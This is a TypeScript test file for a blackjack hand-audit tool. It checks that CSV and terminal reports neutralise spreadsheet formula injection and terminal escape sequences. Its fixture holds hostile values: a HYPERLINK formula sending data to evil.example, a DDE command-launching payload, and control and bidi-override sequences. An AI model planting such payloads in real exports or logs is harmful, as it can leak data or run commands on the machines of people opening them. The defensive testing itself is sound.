import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { runAudit } from '../../audit/run.js';
import { queryFindings } from '../../store/query.js';
import { resolveRun } from '../../store/runs.js';
import { summarize } from '../../store/summary.js';
import { RULESETS } from '../../rules-catalog/index.js';
import { writeCsv } from '../../reports/csv.js';
import { writeStoredFindings } from '../../reports/stored-findings.js';
import { summaryCsv, writeSummary } from '../../reports/summary.js';
import { writeTerminal } from '../../reports/terminal.js';
import { terminalSafe } from '../../reports/terminal-safe.js';
import { storeAudit, tempDir, writeNdjson } from '../store/helpers.js';
import { Sink } from '../helpers/sink.js';

// Text a party to a dispute controls: ids that a spreadsheet would run as formulas, and
// control characters a terminal would obey.
const EVIL = {
  hand: '=HYPERLINK("http://evil.example/?d="&A1,"Open the evidence")',
  dealer: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  table: '+T-1',
  minusDealer: '-5',
  escape: 'H-\u001b[2J\u001b]0;pwned\u0007\u202eevil',
};

/** A hand with one payout finding (seat 4's split hand paid 90 instead of 100), under hostile ids. */
function hostileHands(): Record<string, any>[] {
  const hands = JSON.parse(readFileSync(new URL('../../fixtures/pe-pot-luck-black-jack/clean-examples.json', import.meta.url), 'utf8'));
  const make = (id: string, dealer: string, table: string) => {
    const h = structuredClone(hands[0]);
    Object.assign(h, { hand_id: id, dealer_id: dealer, table_id: table, shoe_id: undefined });
    h.events[21].amount = 90;
    return h;
  };
  return [make(EVIL.hand, EVIL.dealer, EVIL.table), make('H-2', EVIL.minusDealer, '\tT-TAB'), make(EVIL.escape, '\rD-CR', 'T-1')];
}

/** Every cell of a CSV that is not a plain number must not start like a formula (OWASP CSV injection). */
function expectNoFormula(csv: string): string[][] {
  const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data;
  for (const row of rows) {
    for (const cell of row) {
      if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
  return rows;
}

describe('text from the log in exports: shown as text, never run', () => {
  it('the audit CSV, the stored findings CSV and the summary CSVs neutralise formula injection', async () => {
    const dir = tempDir('hostile');
    const log = writeNdjson(join(dir, 'evil.ndjson'), hostileHands());

    const run = await runAudit({ paths: [log], rulesets: RULESETS });
    const audit = new Sink();
    await writeCsv(run, audit, 'en');
    run.dispose();
    const rows = expectNoFormula(audit.text());
    const col = (name: string) => rows[0]!.indexOf(name);
    expect(rows.slice(1).map((r) => [r[col('hand_id')], r[col('dealer_id')], r[col('table_id')]])).toEqual([
      [`'${EVIL.hand}`, `'${EVIL.dealer}`, `'${EVIL.table}`],
      ['H-2', `'${EVIL.minusDealer}`, '\'\tT-TAB'],
      [EVIL.escape, '\'\rD-CR', 'T-1'],
    ]);

    const { db } = await storeAudit(join(dir, 'v.db'), [log]);
    try {
      const stored = new Sink();
      await writeStoredFindings(queryFindings(db, {}), stored, { format: 'csv', lang: 'en', filters: {} });
      const srows = expectNoFormula(stored.text());
      expect(srows.slice(1).map((r) => r[srows[0]!.indexOf('hand_id')])).toEqual([`'${EVIL.hand}`, 'H-2', EVIL.escape]);

      const latest = resolveRun(db, 'latest');
      for (const by of ['dealer', 'table'] as const) {
        const csv = summaryCsv(summarize(db, latest, by));
        const keys = expectNoFormula(csv).slice(1).map((r) => r[0]);
        expect(keys).toEqual(expect.arrayContaining(by === 'dealer' ? [`'${EVIL.dealer}`, `'${EVIL.minusDealer}`, '\'\rD-CR'] : [`'${EVIL.table}`, '\'\tT-TAB', 'T-1']));
      }

      // The text forms of the same: no escape sequence reaches the terminal.
      const text = new Sink();
      await writeStoredFindings(queryFindings(db, {}), text, { format: 'text', lang: 'en', filters: {} });
      const summary = new Sink();
      await writeSummary(summarize(db, latest, 'dealer'), summary, { format: 'text', lang: 'en' });
      for (const t of [text.text(), summary.text()]) {
        expect(t).not.toMatch(/[\u001b\u0007\u202e\r]/);
      }
      expect(text.text()).toContain('H-\\u001b[2J\\u001b]0;pwned\\u0007\\u202eevil');
    } finally {
      db.close();
    }
  });

  it('the terminal report shows control characters and bidi overrides as escapes', async () => {
    const dir = tempDir('hostile');
    const log = writeNdjson(join(dir, 'evil.ndjson'), hostileHands());
    const run = await runAudit({ paths: [log], rulesets: RULESETS });
    const plain = new Sink();
    await writeTerminal(run, plain, { lang: 'en', color: false, rulesets: RULESETS });
    const colored = new Sink();
    await writeTerminal(run, colored, { lang: 'en', color: true, rulesets: RULESETS });
    run.dispose();
    expect(plain.text()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(plain.text()).toContain(`Hand ${terminalSafe(EVIL.escape)}`);
    // With colours on, the only escapes are Veedor's own SGR colour codes.
    expect(colored.text().replace(/\u001b\[\d+m/g, '')).not.toMatch(/\u001b/);
  });

  it('terminalSafe leaves ordinary text, accents included, alone', () => {
    expect(terminalSafe('Begoña Muñoz · Mesa 3 — 21 €')).toBe('Begoña Muñoz · Mesa 3 — 21 €');
    expect(terminalSafe('a\nb\tc\u0085d')).toBe('a\\u000ab\\u0009c\\u0085d');
  });
});
